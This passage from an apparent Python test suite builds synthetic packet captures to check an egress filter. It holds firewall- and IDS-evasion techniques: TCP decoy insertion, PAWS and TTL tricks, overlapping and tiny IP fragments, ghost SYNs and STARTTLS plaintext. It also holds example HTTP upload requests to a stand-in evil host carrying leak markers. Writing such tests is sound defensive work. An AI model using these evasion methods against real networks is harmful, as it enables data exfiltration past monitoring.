    cke = b"\x10\x00\x00\x21\x20" + prand(n + "cke", 32)
    t.data(True, record(22, cke, 0x0303) + CCS + record(22, prand(n + "cfin", 40), 0x0303))
    t.data(False, CCS + record(22, prand(n + "sfin", 40), 0x0303))
    t.data(True, tls_appdata(n + "req", 200))
    t.data(False, tls_appdata(n + "resp", 900))
    reneg = record(22, b"\x5a" + prand(n + "reneg", 300), 0x0303)
    base = t.cseq
    t.raw(True, "PA", reneg[:5], seq=base)
    t.raw(True, "PA", reneg[150:], seq=base + 150)
    t.raw(True, "PA", reneg[5:150], seq=base + 5)
    t.raw(True, "PA", reneg[150:], seq=base + 150, gap=200000)
    t.cseq = base + len(reneg)
    t.data(True, record(23, b"\x01" + passm(n) + prand(n + "req2", 100), 0x0303))
    t.data(False, tls_appdata(n + "resp2", 300))
    t.data(True, record(21, prand(n + "cn", 26), 0x0303))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_after_reorder_ok(n):
    """After the handshake, segments that overtake the one before them on
    the path (the receiver gets both, so nothing is sent again): in each
    direction, the segment with the rest of a record and the next record's
    header and body comes before the body segment ahead of it."""
    cap = Capture()
    t = tls_established(cap, S1, 42170, E2M, 270, n)
    srv = tls_appdata(n + "s1", 1200) + marked_record(passm(n), n + "s2", 600)
    base = t.sseq
    t.raw(False, "PA", srv[:700], seq=base)
    t.raw(False, "PA", srv[1100:], seq=base + 1100)
    t.raw(False, "PA", srv[700:1100], seq=base + 700)
    t.sseq = base + len(srv)
    t.ack(True)
    cli = tls_appdata(n + "c1", 300) + marked_record(passm(n), n + "c2", 200)
    base = t.cseq
    t.raw(True, "PA", cli[:150], seq=base)
    t.raw(True, "PA", cli[250:], seq=base + 250)
    t.raw(True, "PA", cli[150:250], seq=base + 150)
    t.cseq = base + len(cli)
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_fin_ahead_gap_ok(n):
    """The client's last record (application data, then close_notify) is lost
    before us; its FIN comes first, then the record again (a retransmission
    timeout); the server answers and closes."""
    cap = Capture()
    t = tls_established(cap, S1, 42183, E2M, 283, n)
    last = marked_record(passm(n), n + "last", 300) + record(21, prand(n + "cn", 19), 0x0303)
    base = t.cseq
    t.raw(True, "FA", seq=base + len(last))
    t.raw(False, "A", ack=base)
    t.raw(True, "PA", last, seq=base, gap=200000)
    t.cseq = base + len(last) + 1
    t.raw(False, "A")
    t.data(False, tls_appdata(n + "resp", 200))
    t.raw(False, "FA")
    t.sseq += 1
    t.raw(True, "A")
    return cap, {"pass": [passm(n)]}


@case
def case_after_reorder_plain(n):
    """After the handshake, a record's body, then plaintext HTTP, where the
    segment with the end of the body and the plaintext overtakes the body
    segment ahead of it: read once the gap is filled, in the order the
    server reads."""
    cap = Capture()
    t = tls_established(cap, S1, 42171, E2M, 271, n)
    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
    data = tls_appdata(n + "c1", 300) + http
    base = t.cseq
    t.raw(True, "PA", data[:150], seq=base)
    t.raw(True, "PA", data[250:], seq=base + 250)
    t.raw(True, "PA", data[150:250], seq=base + 150)
    t.cseq = base + len(data)
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rst_oow_reopen(n):
    """After the allow, a RST far outside the server's window (it resets
    nothing: RFC 5961 asks for the exact next sequence number), a SYN with a
    new ISN and an e2m ClientHello there (the server, still connected, reads
    neither), then plaintext HTTP at the old connection's next byte."""
    cap = Capture()
    t = tls_established(cap, S1, 42174, E2M, 274, n)
    old_c, old_s = t.cseq, t.sseq
    t.raw(True, "RA", seq=(old_c + 0x20000000) & 0xFFFFFFFF, ack=old_s)
    new_isn = (old_c + 0x40000000) & 0xFFFFFFFF
    t.raw(True, "S", seq=new_isn, options=ETcp.SYN_OPTS)
    t.raw(False, "A", seq=old_s, ack=old_c)  # the server's challenge ACK
    t.raw(True, "PA", hello(n + "ghost"), seq=(new_isn + 1) & 0xFFFFFFFF, ack=old_s)
    t.raw(False, "A", seq=old_s, ack=old_c)
    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
    t.raw(True, "PA", http, seq=old_c, ack=old_s)
    t.cseq = old_c + len(http)
    t.ack(False)
    t.close()
    return cap, {"leak": [leak(n)]}


def ghost_syn(n, cport, isn, evil):
    """A first SYN with a wrong checksum (the server never sees it), then the
    real SYN with an ISN 2^30 away, which the server's SYN-ACK acknowledges;
    evil: a ClientHello for e2m at the first SYN's place (out of the server's
    window) and plaintext HTTP at the real one; else a genuine e2m session."""
    cap = Capture()
    t = ETcp(cap, S1, cport, E2M, 443, isn=isn, rtt_us=20000)
    isn1 = (isn + 0x50000000) & 0xFFFFFFFF
    t.raw(True, "S", seq=isn1, options=ETcp.SYN_OPTS, tcpkw={"chksum": 0xDEAD})
    t.handshake()
    if evil:
        t.raw(True, "PA", hello(n + "ghost"), seq=(isn1 + 1) & 0xFFFFFFFF)
        t.ack(False)
        for i in range(3):
            t.data(True, b"GET /up%d HTTP/1.1\r\nHost: " % i + EVIL_B + b"\r\nX-Id: " + leak(n)
                   + b"\r\n\r\n")
        t.close()
        return cap, {"leak": [leak(n)]}
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req", 200))
    t.data(False, tls_appdata(n + "resp", 700))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_ghost_syn_evil(n):
    return ghost_syn(n, 42175, 275, True)


@case
def case_ghost_syn_ok(n):
    return ghost_syn(n, 42176, 276, False)


def after_insert(n, send_decoy, established=None):
    """After the handshake, a well-framed application data record that the
    server discards (send_decoy(t, decoy, base): how it is sent), then, at
    the same sequence number, plaintext HTTP. established(cap): the session
    so far (an IPv4 e2m one by default)."""
    cap = Capture()
    t = established(cap) if established else tls_established(cap, S1, CPORT[n], E2M, CPORT[n] - 41900, n)
    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
    decoy = tls_appdata(n + "decoy", len(http) - 5)
    assert len(decoy) == len(http)
    base = t.cseq
    send_decoy(t, decoy, base)
    t.raw(True, "PA", http, seq=base, options=t.opts(True) if isinstance(t, TsTcp) else None)
    t.cseq = base + len(http)
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


# the client port of each insertion case (its ISN: the port - 41900)
CPORT = {"after_insert_badsum": 42154, "after_insert_ttl": 42156, "after_insert_noack": 42157,
         "after_insert_md5": 42158, "after_insert_badack": 42159, "after_insert_hbh6": 42162,
         "after_insert_ipopt": 42163, "after_insert_dstopt6": 42164, "after_insert_paws": 42165,
         "after_insert_paws_resyn": 42167, "after_insert_paws_fin": 42169,
         "after_insert_ipcsum": 42172, "after_insert_tcpao": 42173,
         "after_insert_l2other": 42178, "after_insert_l2bcast": 42179}


def v6_decoy(cport, *ext):
    """Send the decoy from S6 with these IPv6 extension headers before TCP."""
    def send(t, decoy, base):
        pkt = IPv6(src=S6, dst=E2M6)
        for h in ext:
            pkt = pkt / h
        pkt = pkt / TCP(sport=cport, dport=443, flags="PA", seq=base, ack=t.sseq, window=64240) / Raw(decoy)
        t.cap.emit(l2(S6, E2M6, ()) / pkt, t.rtt // 2)
    return send


def v6_established(n):
    return lambda cap: tls_established(cap, S6, CPORT[n], E2M6, CPORT[n] - 41900, n)


@case
def case_after_insert_badsum(n):
    """The decoy record with a wrong TCP checksum."""
    return after_insert(n, lambda t, d, b: t.raw(True, "PA", d, seq=b, tcpkw={"chksum": 0xDEAD}))


@case
def case_after_insert_ttl(n):
    """The decoy record with a TTL that expires before the server."""
    return after_insert(n, lambda t, d, b: t.raw(True, "PA", d, seq=b, ipkw={"ttl": 1}))


@case
def case_after_insert_noack(n):
    """The decoy record without the ACK flag (discarded once synchronized)."""
    return after_insert(n, lambda t, d, b: t.raw(True, "P", d, seq=b))


@case
def case_after_insert_md5(n):
    """The decoy record with a TCP-MD5 signature option (dropped by a server without the key)."""
    return after_insert(n, lambda t, d, b: t.raw(True, "PA", d, seq=b, options=[(19, prand(n + "md5", 16))]))


@case
def case_after_insert_ipcsum(n):
    """The decoy record with a wrong IPv4 header checksum (its TCP checksum right)."""
    return after_insert(n, lambda t, d, b: t.raw(True, "PA", d, seq=b, ipkw={"chksum": 0xBEEF}))


@case
def case_after_insert_tcpao(n):
    """The decoy record with a TCP-AO option (RFC 5925; dropped by a server without the key)."""
    return after_insert(n, lambda t, d, b: t.raw(True, "PA", d, seq=b,
                                                 options=[(29, b"\x01\x01" + prand(n + "ao", 12))]))


def l2_decoy(dmac):
    """Send the decoy in a frame to another destination MAC than the
    client's other frames go to (the next hop leaves it on the wire)."""
    def send(t, decoy, base):
        pkt = l2(t.c, t.s) / IP(src=t.c, dst=t.s) / TCP(sport=t.cport, dport=t.sport, flags="PA", seq=base,
                                                     ack=t.sseq, window=64240) / Raw(decoy)
        pkt[Ether].dst = dmac
        t.cap.emit(pkt, 10000)
    return send


@case
def case_after_insert_l2other(n):
    """The decoy record in a frame to another unicast MAC."""
    return after_insert(n, l2_decoy("02:de:ad:be:ef:01"))


@case
def case_after_insert_l2bcast(n):
    """The decoy record in a broadcast frame."""
    return after_insert(n, l2_decoy("ff:ff:ff:ff:ff:ff"))


@case
def case_after_insert_badack(n):
    """The decoy record acknowledging bytes the server never sent."""
    return after_insert(n, lambda t, d, b: t.raw(True, "PA", d, seq=b, ack=(t.sseq + 70000) & 0xFFFFFFFF))


@case
def case_after_insert_hbh6(n):
    """IPv6: the decoy record with Hop-by-Hop options after a Destination
    Options header (a host drops it, RFC 8200 4.1)."""
    return after_insert(n, v6_decoy(CPORT[n], IPv6ExtHdrDestOpt(), IPv6ExtHdrHopByHop()), v6_established(n))


@case
def case_after_insert_ipopt(n):
    """The decoy record with a loose source route option (hosts drop it by
    default); its TCP checksum is right for the addresses on the wire."""
    def send(t, decoy, base):
        seg = TCP(sport=CPORT[n], dport=443, flags="PA", seq=base, ack=t.sseq, window=64240) / Raw(decoy)
        ck = IP(bytes(IP(src=S1, dst=E2M) / seg))[TCP].chksum
        t.raw(True, "PA", decoy, seq=base, ipkw={"options": [IPOption_LSRR(routers=["192.0.2.1"])]},
              tcpkw={"chksum": ck})
    return after_insert(n, send)


@case
def case_after_insert_dstopt6(n):
    """IPv6: the decoy record with a Destination Options header holding an
    option of an unknown type that says discard (RFC 8200 4.2)."""
    opt = IPv6ExtHdrDestOpt(options=[HBHOptUnknown(otype=0x9E, optdata=b"\x00" * 4)])
    return after_insert(n, v6_decoy(CPORT[n], opt), v6_established(n))


class TsTcp(ETcp):
    """A session whose both sides use TCP timestamps (RFC 7323): every
    segment carries one, each side's clock ticking by one per segment."""

    def __init__(self, *a, **kw):
        super().__init__(*a, **kw)
        self.ts = {True: 100000, False: 500000}

    def opts(self, from_client, tsval=None):
        mine = self.ts[from_client] if tsval is None else tsval
        if tsval is None:
            self.ts[from_client] += 1
        return [("NOP", None), ("NOP", None), ("Timestamp", (mine, self.ts[not from_client] - 1))]

    def handshake(self, gap=None):
        self.raw(True, "S", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (self.ts[True], 0)),
                                     ("NOP", None), ("WScale", 7)], gap=gap)
        self.ts[True] += 1
        self.cseq += 1
        self.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (self.ts[False], self.ts[True] - 1)),
                                       ("NOP", None), ("WScale", 7)])
        self.ts[False] += 1
        self.sseq += 1
        self.raw(True, "A", options=self.opts(True))

    def data(self, from_client, payload, gap=None):
        self.raw(from_client, "PA", payload, options=self.opts(from_client), gap=gap)
        if from_client:
            self.cseq += len(payload)
        else:
            self.sseq += len(payload)
        self.raw(not from_client, "A", options=self.opts(not from_client))

    def close(self, gap=None):
        self.raw(True, "FA", options=self.opts(True), gap=gap)
        self.cseq += 1
        self.raw(False, "FA", options=self.opts(False))
        self.sseq += 1
        self.raw(True, "A", options=self.opts(True))


def tls_established_ts(cap, cport, isn, seed):
    t = TsTcp(cap, S1, cport, E2M, 443, isn=isn, rtt_us=20000)
    t.handshake()
    t.data(True, hello(seed))
    t.data(False, server_hello_flight(seed))
    t.data(True, CCS + tls_appdata(seed + "fin", 53))
    t.data(True, tls_appdata(seed + "req", 180))
    t.data(False, tls_appdata(seed + "resp", 700))
    return t


@case
def case_after_hold_ts_ok(n):
    """Both sides use TCP timestamps. After the allow, a segment with the end
    of a record and the next record's header comes ahead of a gap (held);
    the gap is filled by a retransmission, stamped later, so the receiver
    would refuse the held segment now (PAWS): it is dropped, not read, and
    its sender sends it again with a new stamp."""
    cap = Capture()
    t = tls_established_ts(cap, 42184, 284, n)
    data = tls_appdata(n + "r1", 600) + marked_record(passm(n), n + "r2", 300)
    base = t.cseq
    t.raw(True, "PA", data[:300], seq=base, options=t.opts(True))
    t.raw(True, "PA", data[500:], seq=base + 500, options=t.opts(True))
    t.raw(False, "A", ack=base + 300, options=t.opts(False))
    t.ts[True] += 10
    t.raw(True, "PA", data[300:500], seq=base + 300, options=t.opts(True), gap=200000)
    t.raw(False, "A", ack=base + 500, options=t.opts(False))
    t.raw(True, "PA", data[500:], seq=base + 500, options=t.opts(True), gap=20000)
    t.cseq = base + len(data)
    t.raw(False, "A", options=t.opts(False))
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_after_paws_body(n):
    """Both sides use TCP timestamps. A record's body segment (wholly inside
    the record: its bytes move no boundary) carries a stamp far ahead, which
    the server keeps; then a decoy record with a stamp between ours and that
    one (the server drops it: PAWS), then plaintext HTTP at the same
    sequence number with a stamp past the far one."""
    cap = Capture()
    t = tls_established_ts(cap, 42177, 277, n)
    rec = tls_appdata(n + "r2", 400)
    base = t.cseq
    t.raw(True, "PA", rec[:100], seq=base, options=t.opts(True))
    t.raw(False, "A", ack=base + 100, options=t.opts(False))
    far = (t.ts[True] + 0x10000000) & 0xFFFFFFFF
    t.raw(True, "PA", rec[100:], seq=base + 100, options=t.opts(True, tsval=far))
    t.cseq = base + len(rec)
    t.raw(False, "A", options=t.opts(False))
    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
    decoy = tls_appdata(n + "decoy", len(http) - 5)
    base = t.cseq
    t.raw(True, "PA", decoy, seq=base, options=t.opts(True))
    t.raw(False, "A", options=t.opts(False))
    t.raw(True, "PA", http, seq=base, options=t.opts(True, tsval=(far + 5) & 0xFFFFFFFF))
    t.cseq = base + len(http)
    t.raw(False, "A", options=t.opts(False))
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_after_insert_paws(n):
    """Both sides use timestamps; the decoy record carries an older one than
    the client sent before (PAWS: the server drops it)."""
    return after_insert(
        n, lambda t, d, b: t.raw(True, "PA", d, seq=b, options=t.opts(True, tsval=(t.ts[True] - 600000) & 0xFFFFFFFF)),
        lambda cap: tls_established_ts(cap, CPORT[n], CPORT[n] - 41900, n))


@case
def case_after_insert_paws_resyn(n):
    """Both sides use timestamps; a SYN again mid-flow with an old timestamp
    (the server answers it with a challenge ACK and keeps its own), then the
    decoy record with that old timestamp (PAWS: the server drops it)."""
    def send(t, decoy, base):
        old = (t.ts[True] - 600000) & 0xFFFFFFFF
        t.raw(True, "S", seq=base - 1, options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (old, 0)),
                                                 ("NOP", None), ("WScale", 7)])
        t.raw(False, "A", options=t.opts(False))
        t.raw(True, "PA", decoy, seq=base, options=t.opts(True, tsval=old))
    return after_insert(n, send, lambda cap: tls_established_ts(cap, CPORT[n], CPORT[n] - 41900, n))


@case
def case_after_resynack(n):
    """After the handshake, a SYN-ACK again from the server's side with
    another sequence number (forged from outside, or a server gone wrong),
    then the server sends plaintext HTTP at its real sequence number."""
    cap = Capture()
    t = tls_established(cap, S1, 42168, E2M, 268, n)
    t.raw(False, "SA", seq=(t.sseq + 100000) & 0xFFFFFFFF, options=[("MSS", 1460)])
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 24\r\n\r\n" + leak(n) + b"\n")
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_after_insert_paws_fin(n):
    """Both sides use timestamps; a FIN far beyond the server's window
    (it ignores it), then the decoy record with an old timestamp (PAWS: the
    server drops it)."""
    def send(t, decoy, base):
        t.raw(True, "FA", seq=(base + 5000000) & 0xFFFFFFFF, options=t.opts(True))
        t.raw(True, "PA", decoy, seq=base, options=t.opts(True, tsval=(t.ts[True] - 600000) & 0xFFFFFFFF))
    return after_insert(n, send, lambda cap: tls_established_ts(cap, CPORT[n], CPORT[n] - 41900, n))


@case
def case_after_ts_ok(n):
    """Both sides use timestamps; records both ways, one sent again with the same stamp."""
    cap = Capture()
    t = tls_established_ts(cap, 42166, 266, n)
    rec = marked_record(passm(n), n + "ts", 300)
    base = t.cseq
    stamp = t.ts[True]
    t.raw(True, "PA", rec, seq=base, options=t.opts(True, tsval=stamp), tcpkw={"chksum": 0xDEAD})
    t.raw(True, "PA", rec, seq=base, options=t.opts(True, tsval=stamp), gap=200000)
    t.ts[True] += 1
    t.cseq = base + len(rec)
    t.raw(False, "A", options=t.opts(False))
    t.data(False, tls_appdata(n + "more", 400))
    t.data(True, tls_appdata(n + "more2", 200))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_after_options_ok(n):
    """A session whose segments carry timestamps and SACK blocks (options read, nothing refused)."""
    cap = Capture()
    t = tls_established(cap, S1, 42160, E2M, 260, n)
    for k in range(3):
        rec = marked_record(passm(n), n + "opt%d" % k, 300) if k == 1 else tls_appdata(n + "o%d" % k, 300)
        opts = [("NOP", None), ("NOP", None), ("Timestamp", (100000 + k, 5000 + k))]
        t.raw(True, "PA", rec, options=opts)
        t.cseq += len(rec)
        t.raw(False, "A", options=opts + [("NOP", None), ("NOP", None),
                                          ("SAck", (t.cseq + 1000, t.cseq + 2000))])
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_after_server_fin_ok(n):
    """The server closes first; the client's last record acknowledges its FIN."""
    cap = Capture()
    t = tls_established(cap, S1, 42161, E2M, 261, n)
    t.raw(False, "FA")
    t.sseq += 1
    t.raw(True, "A")
    rec = marked_record(passm(n), n + "bye", 60)
    t.raw(True, "PA", rec)
    t.cseq += len(rec)
    t.raw(False, "A")
    t.raw(True, "FA")
    t.cseq += 1
    t.raw(False, "A")
    return cap, {"pass": [passm(n)]}


@case
def case_after_insert_badsum_ok(n):
    """After the handshake, a record damaged on the wire (wrong checksum),
    then its retransmission, then more records."""
    cap = Capture()
    t = tls_established(cap, S1, 42155, E2M, 255, n)
    rec = marked_record(passm(n), n + "late", 400)
    damaged = bytearray(rec)
    damaged[0] ^= 0x40  # its record type, even
    base = t.cseq
    t.raw(True, "PA", bytes(damaged), seq=base, tcpkw={"chksum": 0xDEAD})
    t.raw(True, "PA", rec, seq=base, gap=200000)
    t.cseq = base + len(rec)
    t.data(False, tls_appdata(n + "more", 120))
    t.data(True, tls_appdata(n + "more2", 700))
    t.close()
    return cap, {"pass": [passm(n)]}


# --- foreign protocols on allowed addresses and ports

def foreign_tcp(n, cport, isn, server, sport, msgs):
    cap = Capture()
    t = ETcp(cap, S1, cport, server, sport, isn=isn, rtt_us=20000)
    t.handshake()
    for from_c, p in msgs:
        t.data(from_c, p)
    t.close()
    return cap, {"leak": [leak(n)]}


def with_leak(n, msgs):
    """The marker after the last message: the flow's first payload in each
    direction keeps its own wire format."""
    return list(msgs) + [(True, leak(n))]


@case
def case_foreign_openvpn_e2m(n):
    msgs = ovpn_msgs(n)
    c, p = msgs[3]
    msgs[3] = (c, p + leak(n))  # in the control channel's TLS, after the resets
    return foreign_tcp(n, 42081, 181, E2M, 443, [(c, struct.pack("!H", len(p)) + p) for c, p in msgs])


@case
def case_foreign_bittorrent_e2m(n):
    return foreign_tcp(n, 42082, 182, E2M, 443, with_leak(n, bt_msgs(n)))


@case
def case_foreign_ssh_e2m(n):
    """An SSH server behind E2M's address and port: its banner first."""
    return foreign_tcp(n, 42083, 183, E2M, 443, [
        (False, b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"),
        (True, b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"),
        (True, struct.pack("!IBB", 300, 8, 20) + prand(n + "kex", 298))] + [(True, leak(n))])


@case
def case_foreign_http_e2m(n):
    return foreign_tcp(n, 42084, 184, E2M, 443, [
        (True, b"POST /upload HTTP/1.1\r\nHost: " + E2M_B + b"\r\nContent-Length: 20\r\n\r\n" + leak(n)),
        (False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")])


@case
def case_foreign_http_mail(n):
    return foreign_tcp(n, 42085, 185, MAIL, 25, [
        (True, b"POST /upload HTTP/1.1\r\nHost: mail.customs.example\r\nContent-Length: 20\r\n\r\n" + leak(n)),
        (False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")])


@case
def case_foreign_wireguard_dns(n):
    cap = Capture()
    for i, (from_c, p) in enumerate(wg_msgs(n)):
        p = p + leak(n) if i == 2 else p
        if from_c:
            udp(cap, S1, 42086, RESOLVER, 53, p)
        else:
            udp(cap, RESOLVER, 53, S1, 42086, p)
    return cap, {"leak": [leak(n)]}


def smtp_start(t, starttls):
    t.data(False, b"220 mail.customs.example ESMTP Postfix (Debian/GNU)\r\n")
    t.data(True, b"EHLO ws-10.e2m.customs.example\r\n")
    t.data(False, b"250-mail.customs.example\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n"
                  + (b"250-STARTTLS\r\n" if starttls else b"") + b"250-8BITMIME\r\n250 SMTPUTF8\r\n")
    if starttls:
        t.data(True, b"STARTTLS\r\n")
        t.data(False, b"220 2.0.0 Ready to start TLS\r\n")


@case
def case_smtp_ok(n):
    """A genuine SMTP session to the agency relay."""
    cap = Capture()
    t = ETcp(cap, S1, 42087, MAIL, 25, isn=187, rtt_us=4000)
    t.handshake()
    smtp_start(t, False)
    for c, s in ((b"MAIL FROM:<declarant@e2m.customs.example>\r\n", b"250 2.1.0 Ok\r\n"),
                 (b"RCPT TO:<office@customs.example>\r\n", b"250 2.1.5 Ok\r\n"),
                 (b"DATA\r\n", b"354 End data with <CR><LF>.<CR><LF>\r\n"),
                 (b"Subject: declaration\r\n\r\n" + passm(n) + b"\r\n.\r\n", b"250 2.0.0 Ok: queued\r\n"),
                 (b"QUIT\r\n", b"221 2.0.0 Bye\r\n")):
        t.data(True, c)
        t.data(False, s)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_dns_ok(n):
    """A genuine DNS query to the resolver endpoint, and its answer."""
    cap = Capture()
    q = bytes(DNS(id=0x5151, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
    a = bytes(DNS(id=0x5151, qr=1, rd=1, ra=1, qd=DNSQR(qname=E2M_NAME, qtype="A"),
                  an=DNSRR(rrname=E2M_NAME, type="A", ttl=300, rdata=E2M)))
    udp(cap, S1, 42088, RESOLVER, 53, q)
    udp(cap, RESOLVER, 53, S1, 42088, a)
    return cap, {"pass": [q, a]}


# --- STARTTLS

def starttls(n, cport, isn, then):
    cap = Capture()
    t = ETcp(cap, S1, cport, MAIL, 587, isn=isn, rtt_us=4000)
    t.handshake()
    smtp_start(t, True)
    then(t)
    t.close()
    return cap


@case
def case_starttls_plain(n):
    """After STARTTLS and the 220, the client goes on in plaintext."""
    def then(t):
        t.data(True, b"MAIL FROM:<" + leak(n) + b"@" + EVIL_B + b">\r\n")
        t.data(False, b"250 2.1.0 Ok\r\n")
    return starttls(n, 42091, 191, then), {"leak": [leak(n)]}


@case
def case_starttls_tls_then_plain(n):
    """After STARTTLS: a TLS handshake, then plaintext that is no TLS record."""
    def then(t):
        t.data(True, hello(n, sni="mail.customs.example"))
        t.data(False, server_hello_flight(n))
        t.data(True, CCS + tls_appdata(n + "fin", 53))
        t.data(True, b"DATA\r\n" + leak(n) + b"\r\n.\r\n")
        t.data(False, tls_appdata(n + "resp", 60))
    return starttls(n, 42092, 192, then), {"leak": [leak(n)]}


@case
def case_starttls_ok(n):
    """A genuine STARTTLS session."""
    def then(t):
        t.data(True, hello(n, sni="mail.customs.example"))
        t.data(False, server_hello_flight(n))
        t.data(True, CCS + tls_appdata(n + "fin", 53))
        t.data(True, marked_record(passm(n), n + "req", 400))
        t.data(False, tls_appdata(n + "resp", 60))
    return starttls(n, 42093, 193, then), {"pass": [passm(n)]}


# --- IP fragments

def frag_hello_flow(cap, n, c, cport, s, isn, sni, cut_fn, marker, vlans=()):
    """A ClientHello in one TCP segment, IP-fragmented at cut_fn(ip payload, hello)."""
    kw = {}
    if marker.startswith(b"LEAK"):
        kw["alpn_extra"] = [marker]   # at the very end: in the last fragment
    else:
        kw["sid"] = sid32(marker)     # in the first fragment
    h = hello(n, sni=sni, **kw)

    def send(t):
        t.raw(True, "PA", h, frag=cut_fn(20 + len(h)))
        t.cseq += len(h)
    return tls_flow(cap, c, cport, s, isn, n, send, marker, vlans=vlans)


@case
def case_office_srv_reorder_ok(n):
    """Must allow (a false block found by the thirteenth session, no case before): an
    office flow of a protocol nobody names, to port 9000, still undecided while the
    server's first 3600 bytes come in three segments reordered on the way to us (1, 3,
    2). Forwarded, segment 3 (past a gap) was never counted as sent, and once the client
    had acknowledged all three its next segments were dropped as acknowledging unsent
    bytes (tcp_bad_ack_early) until the give-up: 9 segments of this flow, the marked
    one among them. Now segment 3 is dropped until it comes in order. A capture cannot
    show the client's answer to either: this one is what a client behind the fixed
    bump sees (it acknowledges segments 1 and 2, the server sends 3 again after its
    timeout); the honest-world capture of the old stall, with the client's ACK of all
    three, is described in docs/stream.md."""
    cap = Capture()
    t = ETcp(cap, O1, 42194, SOC, 9000, isn=0x42194, rtt_us=20000)
    t.handshake()
    t.data(True, b"LOGIN guest\r\n")
    flight = prand(n + "flight", 3600)
    base = t.sseq
    cuts = [0, 1200, 2400, len(flight)]
    for i in (0, 2, 1):
        t.raw(False, "PA", flight[cuts[i]:cuts[i + 1]], seq=base + cuts[i])
        t.raw(True, "A", ack=base + cuts[1 if i != 1 else 2])
    # the third segment again, in order, after the server's retransmission timeout
    t.raw(False, "PA", flight[cuts[2]:], seq=base + cuts[2], gap=300000)
    t.raw(True, "A", ack=base + len(flight))
    t.sseq = base + len(flight)
    for i in range(3):
        t.data(True, b"GET item %d " % i + (passm(n) if i == 2 else b"") + b"\r\n")
        t.data(False, prand(n + "r%d" % i, 300))
    t.close()
    return cap, {"pass": [passm(n)]}


def three_frags(total):
    """Fragment starts: 104, and a multiple of 8 at least 48 bytes before the end."""
    return [104, (total - 48) // 8 * 8]


@case
def case_frag4_social(n):
    """Office: a ClientHello for Facebook in 3 IPv4 fragments."""
    cap = Capture()
    frag_hello_flow(cap, n, O1, 42101, SOC, 201, FB, three_frags, leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_frag6_social(n):
    """Office: a ClientHello for Facebook in 3 IPv6 fragments."""
    cap = Capture()
    frag_hello_flow(cap, n, O6, 42102, SOC6, 202, FB, three_frags, leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_frag4_evil(n):
    cap = Capture()
    frag_hello_flow(cap, n, S1, 42103, E2M, 203, EVIL, three_frags, leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_frag6_evil(n):
    cap = Capture()
    frag_hello_flow(cap, n, S6, 42104, E2M6, 204, EVIL, three_frags, leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_frag4_tiny_evil(n):
    """RFC 1858 tiny fragments: 8 bytes each, the first holds half a TCP header."""
    cap = Capture()
    frag_hello_flow(cap, n, S1, 42105, E2M, 205, EVIL, lambda total: list(range(8, total, 8)), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_frag4_overlap(n):
    """Overlapping IPv4 fragments: the first says e2m, the overlap says evil."""
    cap = Capture()
    a = hello(n)
    b = hello(n, sni=EVIL, sid=sid32(leak(n)))
    name_at = 20 + name_offset(a, E2M_NAME)   # in the IP payload
    start2 = 40                               # 8-aligned, in the random: before the session id and name
    end1 = (name_at + len(E2M_NAME) + 7) // 8 * 8

    def send(t):
        # The TCP checksum is right for the overlap's bytes (a receiver that
        # keeps the later copy reads a valid evil ClientHello), wrong for
        # the first copy's.
        base = t.cseq
        tcp = TCP(sport=t.cport, dport=t.sport, flags="PA", seq=base, ack=t.sseq, window=64240)
        mixed = a[:start2 - 20] + b[start2 - 20:]
        pm = bytes(IP(bytes(IP(src=S1, dst=E2M) / tcp / Raw(mixed))).payload)
        f1 = IP(src=S1, dst=E2M, id=0x4343, proto=6, flags="MF", frag=0) / Raw(pm[:20] + a[:end1 - 20])
        f2 = IP(src=S1, dst=E2M, id=0x4343, proto=6, flags=0, frag=start2 // 8) / Raw(pm[start2:])
        t.cap.emit(l2(S1, E2M) / f1, 10000)
        t.cap.emit(l2(S1, E2M) / f2, 100)
        t.cseq = base + len(a)
    tls_flow(cap, S1, 42106, E2M, 206, n, send, leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_frag4_e2m_ok(n):
    """A genuine e2m ClientHello in 3 IPv4 fragments."""
    cap = Capture()
    frag_hello_flow(cap, n, S1, 42107, E2M, 207, E2M_NAME, three_frags, passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_frag6_e2m_ok(n):
    """A genuine e2m ClientHello in 3 IPv6 fragments."""
    cap = Capture()
